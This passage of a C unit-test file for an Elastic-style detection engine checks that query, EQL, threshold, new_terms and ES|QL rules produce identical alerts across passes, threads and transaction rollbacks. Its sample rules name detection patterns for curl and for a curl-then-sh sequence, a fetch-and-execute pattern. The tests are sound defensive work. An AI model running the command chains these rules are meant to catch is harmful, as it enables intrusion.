		struct ingest_options io = {.analyst = "t", .errors = diag_stderr_sink()};
		struct ingest_counts ic = {0};
		assert_int_equal(ingest_path(s, tu_path("pack.ndjson"), &io, &ic), INGEST_OK);
		struct import_counts c = {0};
		FILE *devnull = fopen("/dev/null", "w");
		assert_int_equal(rules_import_file(s, tu_path("pack-rules.ndjson"), "pack", &c, NULL), 0);
		fclose(devnull);
		assert_int_equal(c.rules_added, 155);
		struct detect_options d = {.now_us = NOW, .no_prefilter = pass == 1, .flush_rows = pass == 3 ? 7 : 0};
		struct detect_totals t;
		if (pass == 2) {
			detect_one_rule_at_a_time(s, &d);
		} else {
			assert_int_equal(detect_run(s, &d, &t), 0);
			assert_int_equal(t.rules, 155);
			if (pass == 0)
				shared = t;
			assert_int_equal(t.created, shared.created);
			assert_int_equal(t.matched, shared.matched);
			assert_int_equal(t.capped, shared.capped);
		}
		struct strbuf *into[] = {&with, &without, &alone, &flushed};
		alert_uuids(s, into[pass]);
		store_close(s);
	}
	printf("%d alerts from the pack, %d from its sequences\n", tu_count(with.buf, "\n"), tu_count(with.buf, "seq"));
	assert_true(tu_count(with.buf, "\n") > 40);   /* many rules fire */
	assert_true(tu_count(with.buf, "seq") > 200); /* sequences among them */
	assert_string_equal(with.buf, without.buf);
	assert_string_equal(with.buf, alone.buf);
	assert_string_equal(with.buf, flushed.buf);
	strbuf_release(&flushed);
	strbuf_release(&with);
	strbuf_release(&without);
	strbuf_release(&alone);
	strbuf_release(&o);
	strbuf_release(&e);
}

/* The alert documents, sorted: every byte of each (the creation time is fixed). */
static int collect_doc(void *ctx, const struct alert_row *a)
{
	strbuf_addf(ctx, "%s\n", a->doc ? a->doc : "");
	return 0;
}

static void alert_docs(struct strbuf *into)
{
	sorted_alert_lines(db, collect_doc, into);
}

/* How many of the lines (alert_uuids') are the rule's. */
static int rule_lines(const char *lines, const char *rule_id)
{
	int n = 0;
	size_t len = strlen(rule_id);
	for (const char *p = lines; *p; p = strchr(p, '\n') + 1)
		n += !strncmp(p, rule_id, len) && p[len] == ' ';
	return n;
}

/* Rules that share a pass, or scan alone, decide their executions as it goes (every few rows
 * here) and forget what those are done with: the alerts and documents are the ones each rule
 * makes alone when it keeps everything to the end. Three hours of events on two hosts, every
 * type, and max_signals low enough to cap executions. */
static void test_rules_deciding_as_the_pass_goes_alert_the_same(void **state)
{
	(void)state;
#define HEAD(id, type)                                                                                                 \
	"{\"rule_id\":\"" id "\",\"name\":\"" id "\",\"description\":\"d\",\"risk_score\":47,\"severity\":\"medium\"," \
	"\"type\":\"" type "\",\"interval\":\"5m\",\"from\":\"now-6m\","
	static const char *const rules[] = {
	    HEAD("q", "query") "\"max_signals\":3,\"query\":\"process.name:curl\"}",
	    HEAD("e", "eql") "\"language\":\"eql\",\"max_signals\":4,\"query\":\"process where process.name == "
	                     "\\\"sh\\\"\"}",
	    HEAD("s", "eql") "\"language\":\"eql\",\"max_signals\":2,\"query\":\"sequence by host.id with maxspan=1m "
	                     "[process where process.name == \\\"curl\\\"] [process where process.name == "
	                     "\\\"sh\\\"]\"}",
	    RULE_HEAD("th", "threshold") "\"threshold\":{\"field\":[\"host.id\"],\"value\":5}}",
	    RULE_HEAD("th-card", "threshold") "\"max_signals\":1,\"threshold\":{\"field\":\"user.name\",\"value\":4,"
	                                      "\"cardinality\":[{\"field\":\"process.name\",\"value\":3}]}}",
	    RULE_HEAD("nt", "new_terms") "\"max_signals\":2,\"new_terms_fields\":[\"user.name\",\"process.name\"],"
	                                 "\"history_window_start\":\"now-20m\"}"};
#undef HEAD
	static const char *const names[] = {"\"sh\"", "\"curl\"", "\"ls\"", "\"python3\"", "\"sh\"", "\"ls\""};
	struct strbuf events;
	strbuf_init(&events, 1 << 16);
	unsigned x = 12345;
	for (int i = 0; i < 900; i++) {
		x = x * 1103515245u + 12345u; /* the same case every run */
		char id[16], ts[TIME_ISO_LEN], user[8];
		int64_t t = INT64_C(1714550400000000) + (int64_t)i * 13000000; /* 2024-05-01T08:00:00Z, every 13 s */
		time_format_iso8601(t, ts);
		snprintf(id, sizeof(id), "ev%d", i);
		snprintf(user, sizeof(user), "u%u", (x >> 20) % 100 < 90 ? (x >> 8) % 3 : (x >> 8) % 40);
		process_event(&events, id, ts, (x >> 16) & 1 ? "a" : "b", names[(x >> 12) % 6], user);
	}
	/* the rules together, deciding as they go; each alone with every match kept to the end (the
	 * reference: no prefilters); each alone deciding as it goes. Then executions from 09:00 to
	 * 10:30 only: together, and the reference. */
	enum { TOGETHER, REFERENCE, ALONE, RANGE_TOGETHER, RANGE_REFERENCE, PASSES };
	struct strbuf docs[PASSES], uuids[PASSES];
	struct detect_totals totals[PASSES];
	struct store *fixture_db = db;
	for (int pass = 0; pass < PASSES; pass++) {
		char *err = NULL, name[32];
		snprintf(name, sizeof(name), "stream-%d.db", pass);
		assert_int_equal(store_open(tu_path(name), STORE_CREATE, &db, &err), 0);
		ingest_text(events.buf);
		for (size_t i = 0; i < sizeof(rules) / sizeof(rules[0]); i++)
			import_rule_text(rules[i]);
		struct detect_options d = {
		    .now_us = NOW, .flush_rows = 5, .no_prefilter = pass == REFERENCE || pass == RANGE_REFERENCE};
		if (pass >= RANGE_TOGETHER) {
			d.has_range = 1;
			d.from = INT64_C(1714554000000000); /* 09:00 */
			d.to = INT64_C(1714559400000000);   /* 10:30 */
		}
		if (pass == TOGETHER || pass == RANGE_TOGETHER)
			assert_int_equal(detect_run(db, &d, &totals[pass]), 0);
		else
			detect_one_rule_at_a_time(db, &d);
		if (pass == ALONE) { /* again: nothing new (a range replayed again fills what max_signals left out) */
			assert_int_equal(detect_run(db, &d, &totals[pass]), 0);
			assert_int_equal(totals[pass].created, 0);
		}
		strbuf_init(&docs[pass], 1 << 16);
		strbuf_init(&uuids[pass], 4096);
		alert_docs(&docs[pass]);
		alert_uuids(db, &uuids[pass]);
		store_close(db);
	}
	db = fixture_db;
	printf("q %d, e %d, s %d, th %d, th-card %d, nt %d alerts; %llu executions capped\n",
	       rule_lines(uuids[0].buf, "q"), rule_lines(uuids[0].buf, "e"), rule_lines(uuids[0].buf, "s"),
	       rule_lines(uuids[0].buf, "th"), rule_lines(uuids[0].buf, "th-card"), rule_lines(uuids[0].buf, "nt"),
	       (unsigned long long)totals[0].capped);
	/* every type alerted, several times, and some executions were capped */
	assert_true(rule_lines(uuids[0].buf, "q") > 10);
	assert_true(rule_lines(uuids[0].buf, "e") > 10);
	assert_true(rule_lines(uuids[0].buf, "s") > 5);
	assert_true(rule_lines(uuids[0].buf, "th") > 5);
	assert_true(rule_lines(uuids[0].buf, "th-card") > 2);
	assert_true(rule_lines(uuids[0].buf, "nt") > 5);
	assert_true(totals[0].capped > 10);
	assert_string_equal(uuids[TOGETHER].buf, uuids[REFERENCE].buf);
	assert_string_equal(docs[TOGETHER].buf, docs[REFERENCE].buf);
	assert_string_equal(uuids[ALONE].buf, uuids[REFERENCE].buf);
	assert_string_equal(docs[ALONE].buf, docs[REFERENCE].buf);
	assert_true(tu_count(uuids[RANGE_TOGETHER].buf, "\n") > 20);
	assert_true(tu_count(uuids[RANGE_TOGETHER].buf, "\n") < tu_count(uuids[TOGETHER].buf, "\n"));
	assert_string_equal(uuids[RANGE_TOGETHER].buf, uuids[RANGE_REFERENCE].buf);
	assert_string_equal(docs[RANGE_TOGETHER].buf, docs[RANGE_REFERENCE].buf);
	for (int pass = 0; pass < PASSES; pass++) {
		strbuf_release(&docs[pass]);
		strbuf_release(&uuids[pass]);
	}
	strbuf_release(&events);
}

/* Every alert with its id and document, sorted. */
static int collect_row(void *ctx, const struct alert_row *a)
{
	strbuf_addf(ctx, "%lld %s %s\n", (long long)a->id, a->uuid, a->doc ? a->doc : "");
	return 0;
}

struct states {
	struct store *s;
	struct strbuf *into;
};

static int collect_state(void *ctx, const struct rule_row *r)
{
	struct states *st = ctx;
	int64_t last = -1;
	assert_int_equal(store_detection_state(st->s, r->key, &last), 0);
	strbuf_addf(st->into, "%lld %lld\n", (long long)r->key, (long long)last);
	return 0;
}

/* Storing the alerts on a second thread (detect/alertpipe.h) changes nothing: the same alerts
 * with the same ids and documents, the same audit chain (its head's hash), the same detection
 * states and totals as storing them on the detecting thread, and a second detect finding
 * nothing new; with the shared pass stopping every 7 rows too (each stop a transaction), and
 * with a queue so small that the pass's thread makes documents whenever it would wait. */
static void test_alerts_stored_on_a_second_thread_are_the_same(void **state)
{
	(void)state;
	struct strbuf o, e;
	strbuf_init(&o, 256);
	strbuf_init(&e, 256);
	assert_int_equal(
	    tu_run(&o, &e, "{ build/release/gen-events --events 800 --hosts 4 > '%s'; }", tu_path("pipe.ndjson")), 0);
	assert_int_equal(
	    tu_run(&o, &e, "{ build/release/gen-rules --rules 120 > '%s'; }", tu_path("pipe-rules.ndjson")), 0);
	/* 0, 1: the writer on its own thread or on this one; 2, 3: the same with a flush every 7
	 * rows; 4, 5: queues of one batch, so the pass makes documents whenever it would wait */
	enum { PASSES = 6 };
	struct strbuf rows[PASSES], states[PASSES];
	struct detect_totals first[PASSES], again[PASSES];
	uint64_t made[PASSES];
	char head[PASSES][65];
	int64_t entries[PASSES];
	for (int pass = 0; pass < PASSES; pass++) {
		struct store *s;
		char *err = NULL, name[32];
		snprintf(name, sizeof(name), "pipe-%d.db", pass);
		assert_int_equal(store_open(tu_path(name), STORE_CREATE, &s, &err), 0);
		struct ingest_options io = {.analyst = "t", .errors = diag_stderr_sink()};
		struct ingest_counts ic = {0};
		assert_int_equal(ingest_path(s, tu_path("pipe.ndjson"), &io, &ic), INGEST_OK);
		struct import_counts c = {0};
		assert_int_equal(rules_import_file(s, tu_path("pipe-rules.ndjson"), "pipe", &c, NULL), 0);
		struct detect_options d = {.now_us = NOW,
		                           .synchronous = pass == 1 || pass == 3,
		                           .flush_rows = pass == 2 || pass == 3 || pass == 5 ? 7 : 0,
		                           .queue_bytes = pass >= 4 ? 1 : 0};
		assert_int_equal(detect_run(s, &d, &first[pass]), 0);
		assert_int_equal(detect_run(s, &d, &again[pass]), 0);
		made[pass] = first[pass].made_waiting;
		first[pass].made_waiting = 0;
		assert_int_equal(again[pass].created, 0);
		strbuf_init(&rows[pass], 1 << 16);
		strbuf_init(&states[pass], 4096);
		sorted_alert_lines(s, collect_row, &rows[pass]);
		struct states st = {s, &states[pass]};
		assert_int_equal(store_rules_each(s, collect_state, &st), 0);
		assert_int_equal(store_audit_head(s, &entries[pass], head[pass]), 0);
		int64_t n = 0, bad = 0;
		char why[256];
		assert_int_equal(store_audit_verify(s, &n, &bad, why, sizeof(why)), 0);
		assert_int_equal(n, entries[pass]);
		store_close(s);
	}
	printf("%llu alerts, %lld audit entries\n", (unsigned long long)first[0].created, (long long)entries[0]);
	assert_true(first[0].created > 20);
	assert_int_equal(entries[0], (int64_t)first[0].created);
	assert_int_equal(made[1], 0); /* one thread */
	assert_int_equal(made[3], 0);
	assert_true(made[4] > 0 && made[5] > 0);
	for (int pass = 1; pass < PASSES; pass++) {
		int same_flushes = pass == 2 || pass == 3 || pass == 5 ? 2 : 0;
		assert_memory_equal(&first[pass], &first[0], sizeof(first[0]));
		assert_memory_equal(&again[pass], &again[0], sizeof(again[0]));
		assert_string_equal(states[pass].buf, states[0].buf);
		assert_string_equal(rows[pass].buf, rows[same_flushes].buf); /* the ids: with the same flushes */
		assert_string_equal(head[pass], head[same_flushes]);
		assert_int_equal(entries[pass], entries[0]);
	}
	for (int pass = 0; pass < PASSES; pass++) {
		strbuf_release(&rows[pass]);
		strbuf_release(&states[pass]);
	}
	strbuf_release(&o);
	strbuf_release(&e);
}

static int take_rule_key(void *ctx, const struct rule_row *r)
{
	int64_t *keys = ctx;
	if (!keys[0])
		keys[0] = r->key;
	else if (!keys[1])
		keys[1] = r->key;
	return 0;
}

/* A case with one event and two rules (their keys), and an alert on the event by the first,
 * for the writing thread's tests. */
static struct alert_record pipe_case(int64_t keys[2])
{
	struct strbuf ev;
	strbuf_init(&ev, 512);
	file_event(&ev, "e1", "2024-05-01T10:00:00.000Z", "/tmp/x", "[\"creation\"]", "macos");
	ingest_text(ev.buf);
	strbuf_release(&ev);
	keys[0] = keys[1] = 0;
	assert_int_equal(store_rules_each(db, take_rule_key, keys), 0);
	assert_true(keys[0] > 0 && keys[1] > 0);
	return (struct alert_record){.rule_key = keys[0],
	                             .event_id = 1,
	                             .original_time = NOW,
	                             .created_us = NOW,
	                             .execution_us = NOW,
	                             .severity = "low",
	                             .risk_score = 21,
	                             .reason = "r",
	                             .doc = "{\"a\":1}"};
}

/* The writing thread failing (here: a state for a rule that does not exist) undoes its
 * transaction, a rule's alert with it, does nothing queued after, and hands its message to the
 * case's connection: what it committed before stays. */
static void test_a_failing_writer_keeps_only_what_it_committed(void **state)
{
	(void)state;
	int64_t keys[2];
	struct alert_record a = pipe_case(keys);
	struct alert_pipe *p;
	assert_int_equal(alert_pipe_open(db, 0, NULL, &p), 0);
	static const char uuid[] = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
	a.uuid = uuid;
	assert_int_equal(alert_pipe_begin(p), 0);
	assert_int_equal(alert_pipe_set_state(p, keys[0], 5), 0);
	assert_int_equal(alert_pipe_commit(p), 0);
	assert_int_equal(alert_pipe_pending(p, uuid), 0);
	alert_pipe_begin(p);
	alert_pipe_add(p, &a);
	assert_int_equal(alert_pipe_pending(p, uuid), 1); /* queued: not in the store for this thread */
	alert_pipe_set_state(p, INT64_C(987654321), 7);   /* no such rule */
	alert_pipe_commit(p);
	alert_pipe_begin(p);
	alert_pipe_set_state(p, keys[1], 9);
	alert_pipe_commit(p);
	uint64_t created = 0, made = 0;
	assert_int_equal(alert_pipe_close(p, db, &created, &made), -1);
	assert_non_null(strstr(store_errmsg(db), "FOREIGN KEY"));
	assert_int_equal(created, 0);
	assert_int_equal(made, 0); /* no job: nothing to make */
	int64_t last = 0;
	int exists = 1;
	assert_int_equal(store_detection_state(db, keys[0], &last), 0);
	assert_int_equal(last, 5);
	assert_int_equal(store_detection_state(db, keys[1], &last), 0);
	assert_int_equal(last, 0);
	assert_int_equal(store_alert_exists(db, uuid, &exists), 0);
	assert_int_equal(exists, 0);
	int64_t entries = -1;
	char hash[65];
	assert_int_equal(store_audit_head(db, &entries, hash), 0);
	assert_int_equal(entries, 0);
}

/* The writer commits transactions queued back to back as one (group commit): the caller's
 * rollback of one of them undoes that one alone, and the ones before and after it stay with
 * their alerts and states, counted once each. */
static void test_group_commit_undoes_only_what_was_rolled_back(void **state)
{
	(void)state;
	int64_t keys[2];
	struct alert_record a = pipe_case(keys);
	struct alert_pipe *p;
	assert_int_equal(alert_pipe_open(db, 0, NULL, &p), 0);
	static const char kept[] = "1111111111111111111111111111111111111111111111111111111111111111",
	                  undone[] = "2222222222222222222222222222222222222222222222222222222222222222",
	                  last_one[] = "3333333333333333333333333333333333333333333333333333333333333333";
	assert_int_equal(alert_pipe_begin(p), 0);
	a.uuid = kept;
	assert_int_equal(alert_pipe_add(p, &a), 0);
	assert_int_equal(alert_pipe_set_state(p, keys[0], 5), 0);
	assert_int_equal(alert_pipe_commit(p), 0);
	assert_int_equal(alert_pipe_begin(p), 0);
	a.uuid = undone;
	assert_int_equal(alert_pipe_add(p, &a), 0);
	assert_int_equal(alert_pipe_set_state(p, keys[1], 7), 0);
	alert_pipe_rollback(p);
	assert_int_equal(alert_pipe_pending(p, undone), 0); /* rolled back: never to be stored */
	assert_int_equal(alert_pipe_begin(p), 0);
	a.uuid = last_one;
	assert_int_equal(alert_pipe_add(p, &a), 0);
	assert_int_equal(alert_pipe_commit(p), 0);
	uint64_t created = 0, made = 0;
	assert_int_equal(alert_pipe_close(p, db, &created, &made), 0);
	assert_int_equal(created, 2);
	int64_t last = -1;
	assert_int_equal(store_detection_state(db, keys[0], &last), 0);
	assert_int_equal(last, 5);
	assert_int_equal(store_detection_state(db, keys[1], &last), 0);
	assert_int_equal(last, 0);
	int exists = -1;
	assert_int_equal(store_alert_exists(db, kept, &exists), 0);
	assert_int_equal(exists, 1);
	assert_int_equal(store_alert_exists(db, undone, &exists), 0);
	assert_int_equal(exists, 0);
	assert_int_equal(store_alert_exists(db, last_one, &exists), 0);
	assert_int_equal(exists, 1);
	int64_t entries = -1;
	char hash[65];
	assert_int_equal(store_audit_head(db, &entries, hash), 0);
	assert_int_equal(entries, 2);
}

/* Types detect cannot run say exactly why. */
static void test_types_not_run_say_why(void **state)
{
	(void)state;
	struct rule r;
	char why[200];
	const char *rules[] = {
	    "{\"rule_id\":\"q\",\"name\":\"q\",\"description\":\"d\",\"risk_score\":1,\"severity\":\"low\",\"type\":"
	    "\"esql\",\"language\":\"esql\",\"query\":\"FROM logs-* | COMPLETION x = prompt WITH my-llm\"}",
	    "{\"rule_id\":\"q\",\"name\":\"q\",\"description\":\"d\",\"risk_score\":1,\"severity\":\"low\",\"type\":"
	    "\"esql\",\"language\":\"esql\",\"query\":\"FROM logs-* | ENRICH hosts ON host.name\"}",
	    "{\"rule_id\":\"q\",\"name\":\"q\",\"description\":\"d\",\"risk_score\":1,\"severity\":\"low\",\"type\":"
	    "\"new_terms\",\"query\":\"x:y\",\"new_terms_fields\":[],\"history_window_start\":\"now-7d\"}",
	    /* numbers out of range are refused, not converted (1e300 became INT64_MIN, a threshold
	     * every group passed) */
	    "{\"rule_id\":\"q\",\"name\":\"q\",\"description\":\"d\",\"risk_score\":1,\"severity\":\"low\",\"type\":"
	    "\"threshold\",\"query\":\"x:y\",\"threshold\":{\"field\":[],\"value\":1e300}}",
	    "{\"rule_id\":\"q\",\"name\":\"q\",\"description\":\"d\",\"risk_score\":1,\"severity\":\"low\",\"type\":"
	    "\"threshold\",\"query\":\"x:y\",\"threshold\":{\"field\":[],\"value\":2,\"cardinality\":[{\"field\":"
	    "\"a\",\"value\":-1e19}]}}"};
	const char *want[] = {"it calls COMPLETION, an LLM inference endpoint, which cannot run offline (at offset 14)",
	                      "the ES|QL command ENRICH is not one casebook runs yet (at offset 14)",
	                      "a new_terms rule needs new_terms_fields: 1 to 3 field names",
	                      "a threshold rule needs threshold.value, a whole number from 1 to 2147483647",
	                      "threshold.cardinality needs a field and a value, a whole number from 0 to 2147483647"};
	for (size_t i = 0; i < sizeof(rules) / sizeof(rules[0]); i++) {
		cJSON *obj = cJSON_Parse(rules[i]);
		assert_int_equal(rule_from_json(obj, &r, why, sizeof(why)), 0);
		assert_non_null(r.unsupported);
		assert_string_equal(r.unsupported, want[i]);
		rule_release(&r);
		cJSON_Delete(obj);
	}
}

struct found_rule {
	int enabled;
	char source[32];
	char name[80];
};

static int take_found_rule(void *ctx, const struct rule_row *r)
{
	struct found_rule *f = ctx;
	f->enabled = r->enabled;
	snprintf(f->source, sizeof(f->source), "%s", r->source);
	snprintf(f->name, sizeof(f->name), "%s", r->name);
	return 0;
}

/* The rule a Kibana alert brings stands in, disabled, only until a rule of that rule_id and
 * version comes from elsewhere: the pack (a release adding a version the alert named first)
 * replaces it whole, enabled as the pack has it; the alert's rule never replaces the pack's. */
static void test_a_pack_rule_replaces_the_stand_in_an_alert_brought(void **state)
{
	(void)state;
	struct store *s;
	char *err = NULL;
	assert_int_equal(store_open(tu_path("stand-in.db"), STORE_CREATE, &s, &err), 0);
	cJSON *alert = cJSON_Parse("{\"kibana.alert.rule.rule_id\":\"" SEED "\",\"kibana.alert.rule.version\":107,"
	                           "\"kibana.alert.rule.name\":\"Forged\",\"kibana.alert.rule.severity\":\"low\","
	                           "\"kibana.alert.rule.risk_score\":1,\"kibana.alert.rule.parameters\":"
	                           "{\"query\":\"process.name:none\"}}");
	int64_t key = 0;
	char why[200];
	assert_int_equal(store_begin(s), 0);
	assert_int_equal(rules_add_from_alert(s, alert, &key, why, sizeof(why)), 0);
	assert_int_equal(store_commit(s), 0);
	struct found_rule f = {0};
	assert_int_equal(store_rule_find(s, SEED, 107, take_found_rule, &f), 1);
	assert_int_equal(f.enabled, 0);
	assert_string_equal(f.source, RULE_SOURCE_ALERT);
	assert_int_equal(rules_load_pack(s, &(struct diag_sink){diag_to_stream, stderr}), 0);
	assert_int_equal(store_rule_find(s, SEED, 107, take_found_rule, &f), 1);
	assert_int_equal(f.enabled, 1);
	assert_string_equal(f.source, "pack");
	assert_string_equal(f.name, "Persistence via DirectoryService Plugin Modification");
	/* and a later alert naming it leaves the pack's rule as it is */
	assert_int_equal(store_begin(s), 0);
	assert_int_equal(rules_add_from_alert(s, alert, &key, why, sizeof(why)), 0);
	assert_int_equal(store_commit(s), 0);
	assert_int_equal(store_rule_find(s, SEED, 107, take_found_rule, &f), 1);
	assert_int_equal(f.enabled, 1);
	assert_string_equal(f.source, "pack");
	cJSON_Delete(alert);
	store_close(s);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
	const struct CMUnitTest tests[] = {
	    T(test_seed_rule_on_hand_written_events),
	    T(test_alert_document_has_kibana_fields),
	    T(test_max_signals_caps_each_execution),
	    T(test_overlapping_windows_and_reruns_create_no_duplicates),
	    T(test_event_ingested_decides_the_window),
	    T(test_index_patterns),
	    T(test_exceptions_suppress_exactly_what_they_should),
	    T(test_exception_added_from_the_command_line),
	    T(test_rule_formats_and_defaults),
	    cmocka_unit_test(test_date_math),
	    cmocka_unit_test(test_date_math_out_of_range_is_named),
	    T(test_calendar_windows_and_long_schedules),
	    T(test_reference_exports_when_present),
	    T(test_pruned_search_agrees_with_full_evaluation),
	    T(test_companion_rules_and_v111),
	    T(test_no_such_rule_is_a_named_status),
	    T(test_threshold_rule),
	    T(test_new_terms_rule),
	    T(test_esql_rule),
	    T(test_esql_stats_over_no_rows),
	    T(test_esql_now_is_the_execution_time),
	    T(test_esql_now_before_stats),
	    T(test_esql_impossible_travel_rules),
	    cmocka_unit_test(test_lucene_bracket_escapes),
	    cmocka_unit_test(test_lucene_regex_intersection),
	    T(test_esql_long_schedule_costs_rows_not_executions),
	    T(test_esql_bomb_stops_the_rule_with_an_error),
	    T(test_a_rule_stopped_in_its_finish_undoes_only_its_own),
	    T(test_group_commit_undoes_only_what_was_rolled_back),
	    T(test_types_not_run_say_why),
	    T(test_sequence_joins_on_every_array_value),
	    T(test_column_prefilter_sees_arrays_and_numbers),
	    T(test_sequence_with_missing_events),
	    T(test_a_pack_alerts_the_same_without_prefilters),
	    T(test_rules_deciding_as_the_pass_goes_alert_the_same),
	    T(test_a_pack_rule_replaces_the_stand_in_an_alert_brought),
	    T(test_alerts_stored_on_a_second_thread_are_the_same),
	    T(test_a_failing_writer_keeps_only_what_it_committed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
